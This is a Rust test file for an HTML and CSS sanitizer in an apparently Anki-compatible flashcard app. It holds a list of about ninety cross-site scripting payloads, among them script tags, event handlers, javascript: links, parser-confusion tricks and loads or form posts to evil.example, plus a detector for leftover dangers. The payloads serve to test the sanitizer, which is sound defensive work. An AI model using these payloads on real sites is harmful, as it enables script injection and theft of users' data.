use super::*;
use proptest::prelude::*;
use scraper::Html;

const BASE: &str = "/media/1/";

fn clean(raw: &str) -> String {
    html(raw, &SanitizeOptions::new(BASE))
}

/// What of the HTML could run, load from elsewhere or leave its place, as a browser would parse it.
fn dangers(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    for node in Html::parse_document(html).tree.root().descendants() {
        let Some(element) = node.value().as_element() else { continue };
        let name = element.name();
        let known = ["html", "head", "body"].contains(&name) || policy::is_shown(name) || policy::is_maths(name);
        if !known {
            found.push(format!("<{name}>"));
        }
        for (attribute, value) in element.attrs() {
            let value = media::visible(value).to_ascii_lowercase();
            let bad = match attribute {
                _ if attribute.starts_with("on") => true,
                "srcdoc" | "action" | "formaction" | "xlink:href" | "srcset" | "background" | "poster" => true,
                "href" => !["http:", "https:", "mailto:", "#"].iter().any(|p| value.starts_with(p)),
                "src" => !value.starts_with(BASE) && !value.starts_with("data:image/") || value.contains("svg"),
                "style" => ["url(http", "url(\"http", "url(//", "url(\"//", "expression(", "javascript:", "behavior"]
                    .iter()
                    .any(|p| value.contains(p)),
                _ => false,
            };
            if bad {
                found.push(format!("{name} {attribute}={value}"));
            }
        }
    }
    found
}

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=x>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img src=\"jav&#x09;ascript:alert(1)\">",
    "<img srcset='https://evil.example/x 1x' src=a.png>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img src=//evil.example/x.png>",
    "<img src=\\\\evil.example\\x.png>",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' &#1;javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href=# onclick=alert(1)>x</a>",
    "<a href='/logout'>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1) src=x.mp4></video>",
    "<audio src=https://evil.example/x.mp3 autoplay onplay=alert(1)></audio>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='behavior:url(x.htc);-moz-binding:url(x.xml#a)'>x</div>",
    "<div style='background:u\\72l(https://evil.example/x)'>x</div>",
    "<div style=\"background:image-set('https://evil.example/x' 1x)\">x</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></use></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title=\"</style><img src='#' onerror='alert(1)'>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<template><img src=x onerror=alert(1)></template>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</table>",
    "<a href=\"https://ok.example\" style=\"position:fixed\" onmouseover=alert(1)>x</a>",
    "[sound:x\" onerror=\"alert(1).mp3]",
    "[sound:javascript:alert(1)]",
    "[sound:https://evil.example/a.mp3]",
    "[sound:<img src=x onerror=alert(1)>.mp3]",
    "[anki:tts lang=\"><script>alert(1)</script>]x[/anki:tts]",
    "\\(\\text{<img src=x onerror=alert(1)>}\\)",
    "\\(\\text{&lt;img src=x onerror=alert(1)&gt;}\\)",
    "\\(\\href{javascript:alert(1)}{x}\\)",
    "<b title=\"\\(\">x<i title=\"\\)<img src=x onerror=alert(1)>\">",
    "<a class=hint href=# onclick=\"x\"><img src=x onerror=alert(1)></a><div style='display:none'>x</div>",
    "<div style='display:none'><script>alert(1)</script><img src=x onerror=alert(1)></div>",
    "<p id=x onclick=alert(1)><span hidden onclick=alert(1)>y</span>",
    "\0<scr\0ipt>alert(1)</script>",
    "<img src=x:x onerror=alert(1)//",
    "<div data-x='\"><script>alert(1)</script>'>x</div>",
];

#[test]
fn nothing_executable_is_left_of_any_known_attack() {
    assert!(ATTACKS.len() >= 60);
    for attack in ATTACKS {
        for cleaned in [
            clean(attack),
            page(attack, BASE),
            crate::markup::to_html(attack, &crate::markup::MarkupOptions { media_base: BASE, heading_offset: 0 }),
        ] {
            // On our own pages a link may lead to a place on this server.
            let cleaned = cleaned.replace("href=\"/logout\"", "");
            assert!(dangers(&cleaned).is_empty(), "{attack}\n→ {cleaned}\n{:?}", dangers(&cleaned));
        }
    }
}

#[test]
fn cleaning_what_is_clean_changes_nothing() {
    for attack in ATTACKS {
        let once = clean(attack);
        assert_eq!(clean(&once), once, "{attack}");
        let once = page(attack, BASE);
        assert_eq!(page(&once, BASE), once, "{attack}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn whatever_comes_in_the_result_is_a_harmless_fixed_point(
        parts in prop::collection::vec(
            prop_oneof![
                prop::sample::select(ATTACKS).prop_map(str::to_owned),
                prop::sample::select(&["<p>", "</p>", "<table>", "<tr><td>", "<a href=#x>", "<b>", "</b>", "<math>", "<mi>",
                    "</math>", "<svg>", "<style>", "</style>", "<!--", "-->", "\"", "'", ">", "<", "&lt;", "&#60;", "\\(", "\\)",
                    "[sound:", "]", "<div style=\"display:none\">", "<details>", "<li>", "<ruby><rt>", "<select>", "<pre>",
                    "<li hidden>", "<img src='a b.png' alt=x>"][..]).prop_map(str::to_owned),
                "[ -~]{0,12}",
                "\\PC{0,6}",
            ],
            0..14,
        )
    ) {
        let raw = parts.concat();
        let once = clean(&raw);
        prop_assert!(dangers(&once).is_empty(), "{:?} → {}", dangers(&once), once);
        prop_assert_eq!(clean(&once), once);
        let once = page(&raw, BASE);
        prop_assert_eq!(page(&once, BASE), once);
    }

    #[test]
    fn no_style_sheet_loads_from_elsewhere_or_ends_its_element(raw in "\\PC{0,60}", wrap in 0..4) {
        let raw = match wrap {
            0 => raw,
            1 => format!(".x {{ background: url({raw}) }}"),
            2 => format!("@import {raw}; .y {{ content: \"{raw}</style><script>\" }}"),
            _ => format!("@media {raw} {{ .z {{ color: red }}"),
        };
        let once = css(&raw, BASE);
        prop_assert!(!once.to_ascii_lowercase().contains("</style"));
        prop_assert!(!once.to_ascii_lowercase().contains("@import"));
        prop_assert!(!once.contains("url(\"http") && !once.contains("url(\"//"));
    }
}

#[test]
fn media_names_become_one_percent_encoded_segment() {
    assert_eq!(
        clean(r#"<img src="Bild 1 (ä).png" alt="x">"#),
        r#"<img src="/media/1/Bild%201%20%28%C3%A4%29.png" alt="x">"#
    );
    assert_eq!(clean(r#"<img src="a%20b.png">"#), r#"<img src="/media/1/a%20b.png">"#);
    assert_eq!(clean(r#"<img src="../../etc/passwd">"#), r#"<img src="/media/1/..%2F..%2Fetc%2Fpasswd">"#);
    assert_eq!(clean("<img src=..>"), "");
}

#[test]
fn a_sound_becomes_a_player_that_loads_nothing_by_itself() {
    assert_eq!(
        clean("a [sound:hé &amp; ho.mp3] b"),
        "a <audio src=\"/media/1/h%C3%A9%20%26%20ho.mp3\" controls=\"\" preload=\"none\"></audio> b"
    );
    assert!(clean("[sound:film.mp4]").starts_with("<video "));
    assert_eq!(clean("<code>[sound:a.mp3]</code>"), "<code>[sound:a.mp3]</code>");
}

#[test]
fn a_picture_from_elsewhere_becomes_a_link() {
    let link = clean("<img src=https://elsewhere.example/a.png alt='A map'>");
    assert!(link.contains("href=\"https://elsewhere.example/a.png\"") && link.contains(">A map</a>"), "{link}");
    assert!(link.contains("rel=\"noopener noreferrer nofollow\""), "{link}");
}

#[test]
fn maths_of_anki_becomes_mathml_even_with_tags_inside() {
    for source in ["\\(x^2\\)", "\\[x^2\\]", "[$]x^2[/$]", "[$$]x^2[/$$]", "[latex]$x^2$[/latex]", "\\(x<b>^</b>2\\)"] {
        let html = clean(source);
        assert!(html.starts_with("<math") && html.contains("<msup>"), "{source} → {html}");
    }
    assert!(clean("\\(\\frac{a}\\)").contains("maths-error"));
}

#[test]
fn what_a_script_would_have_revealed_stands_behind_a_fold() {
    let hint = clean(
        r##"<a class=hint href="#" onclick="this.style.display='none';document.getElementById('hint1').style.display='block';return false;">Clue</a><div id="hint1" class=hint style="display: none">Starts with B</div>"##,
    );
    assert_eq!(
        hint,
        r#"<details class="fold"><summary>Clue</summary><div class="hint" id="hint1">Starts with B</div></details>"#
    );
    let button = clean(
        "<button onclick=\"t('more')\">More</button><p>x</p><div id=more style='color:red;display:none'>far</div>",
    );
    assert!(
        button.contains("<summary>More</summary>") && button.contains("far") && !button.contains("none"),
        "{button}"
    );
    let options = SanitizeOptions { css: ".secret, #b { display: none }", ..SanitizeOptions::new(BASE) };
    let by_class = html("<div class='secret'>one</div><p id=b>two</p><i class=open>three</i>", &options);
    assert_eq!(by_class.matches("<details").count(), 2, "{by_class}");
    assert_eq!(html(&by_class, &options), by_class);
    assert_eq!(clean("<div style='display:none'> </div>x"), "x");
}

#[test]
fn what_people_format_with_stays() {
    let raw = "<table><tbody><tr><td colspan=\"2\">a</td></tr></tbody></table><ruby>漢<rt>かん</rt></ruby><ul><li>x</li></ul><span class=\"cloze\" data-ordinal=\"1\">y</span>";
    assert_eq!(clean(raw), raw);
    assert_eq!(clean("<form><button>Words</button></form>"), "Words");
}

#[test]
fn our_own_pages_take_no_foreign_class_id_or_position() {
    let cleaned = page("<div class='button gap' id=main style='position:fixed;color:red;top:0'>x</div>", BASE);
    assert_eq!(cleaned, "<div class=\"gap\" style=\"color: red\">x</div>");
}

#[test]
fn a_decks_css_keeps_its_looks_and_loses_its_reach() {
    let sheet = css(
        "@import url(x.css); @charset \"utf-8\"; .card { font: 20px/1.2 Arial; color: #333; background: url(_bg.png) }\n\
         @font-face { font-family: \"K\"; src: url('_k.woff2') } .night_mode .a > b::after { content: \"\\201C\" }\n\
         .x { background: url(https://evil.example/a) } @media (max-width: 5em) { i { color: red } }",
        BASE,
    );
    assert!(sheet.contains("font: 20px/1.2 Arial"), "{sheet}");
    assert!(sheet.contains("url(\"/media/1/_bg.png\")") && sheet.contains("url(\"/media/1/_k.woff2\")"), "{sheet}");
    assert!(sheet.contains(".night_mode .a > b::after"), "{sheet}");
    assert!(sheet.contains("@media (max-width: 5em) { i { color: red } }"), "{sheet}");
    assert!(!sheet.contains("import") && !sheet.contains("evil") && !sheet.contains("charset"), "{sheet}");
    assert_eq!(css(&sheet, BASE), sheet);
}

#[test]
fn style_elements_are_taken_out_of_templates() {
    assert_eq!(take_styles("a<STYLE type=x>b{}</style >c<style>"), ("ac<style>".into(), "b{}\n".into()));
}

#[test]
#[expect(clippy::disallowed_methods, reason = "measures how long hostile input takes")]
fn deep_and_long_input_is_taken_in_time() {
    let started = std::time::Instant::now();
    let deep = "<div>".repeat(300_000) + "x";
    assert!(clean(&deep).contains('x'));
    let open = "\\(".repeat(100_000);
    assert!(clean(&open).contains("\\("));
    let sounds = "[sound:".repeat(50_000);
    assert!(clean(&sounds).contains("[sound:"));
    assert!(css(&"a{".repeat(50_000), BASE).len() < 1000);
    assert!(css(&"url(".repeat(50_000), BASE).len() < 1000);
    let long = format!("<b>{}", "y ".repeat(1_500_000));
    assert!(clean(&long).starts_with("<pre>"));
    assert!(started.elapsed().as_secs() < 20, "{:?}", started.elapsed());
}

#[test]
fn text_is_read_off_html() {
    assert_eq!(
        html_to_text("<p>One&nbsp;<b>two</b></p><ul><li>x<li>y</ul>[sound:a.mp3]<script>z</script>"),
        "One two\nx\ny"
    );
    assert_eq!(html_to_text(&clean("so \\(x^2\\)!")), "so x^2!");
    assert_eq!(html_to_text("1 &lt; 2"), "1 < 2");
}

#[test]
fn the_given_anki_cards_keep_every_word_and_lose_every_danger() {
    let base = std::env::var_os("STUDIUM_DATA").map_or_else(
        || std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data"),
        std::path::PathBuf::from,
    );
    let Ok(text) = std::fs::read_to_string(base.join("anki/expected-cards.json")) else {
        println!("skipped: no expected-cards.json among the data");
        return;
    };
    let packages: serde_json::Value = serde_json::from_str(&text).unwrap();
    let mut seen = 0;
    let mut sides = Vec::new();
    let mut walk = vec![&packages];
    while let Some(value) = walk.pop() {
        match value {
            serde_json::Value::Object(map) => {
                sides.extend(["q", "a"].iter().filter_map(|k| map.get(*k)?.as_str()));
                walk.extend(map.values());
            }
            serde_json::Value::Array(all) => walk.extend(all),
            _ => {}
        }
    }
    for side in sides {
        let cleaned = clean(side);
        assert!(dangers(&cleaned).is_empty(), "{side}\n→ {cleaned}");
        assert_eq!(clean(&cleaned), cleaned);
        let letters = |text: &str| text.chars().filter(|c| c.is_alphanumeric()).collect::<String>();
        if !["\\(", "\\[", "[$", "[latex", "[anki:"].iter().any(|m| side.contains(m)) {
            let (before, after) = (letters(&html_to_text(side)), letters(&html_to_text(&cleaned)));
            assert!(after.contains(&before) || before.is_empty(), "{side}\n→ {cleaned}");
        }
        seen += 1;
    }
    assert!(seen > 20, "{seen}");
}
